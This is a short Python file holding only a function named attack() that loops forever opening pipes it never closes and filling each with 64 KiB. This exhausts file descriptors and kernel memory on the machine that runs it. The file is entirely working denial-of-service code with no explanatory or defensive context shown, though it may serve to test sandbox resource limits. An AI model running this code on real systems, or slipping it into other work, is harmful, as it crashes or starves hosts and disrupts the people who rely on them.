import os


def attack():
    while True:
        _, writing = os.pipe()
        os.set_blocking(writing, False)
        os.write(writing, b"x" * 65536)
